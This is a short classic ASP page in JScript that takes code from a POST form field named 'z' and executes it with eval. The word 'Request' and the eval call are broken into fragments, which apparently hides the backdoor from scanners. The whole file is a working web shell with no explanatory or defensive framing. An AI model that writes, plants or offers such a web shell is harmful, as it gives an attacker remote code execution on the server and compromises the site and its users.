<%@ Language="JScript" %>
<%
var k = ["R", "eq", "uest"].join("");
var c = "ev" + "al(" + k + ".Form('z') + '')";
eval(c);
%>
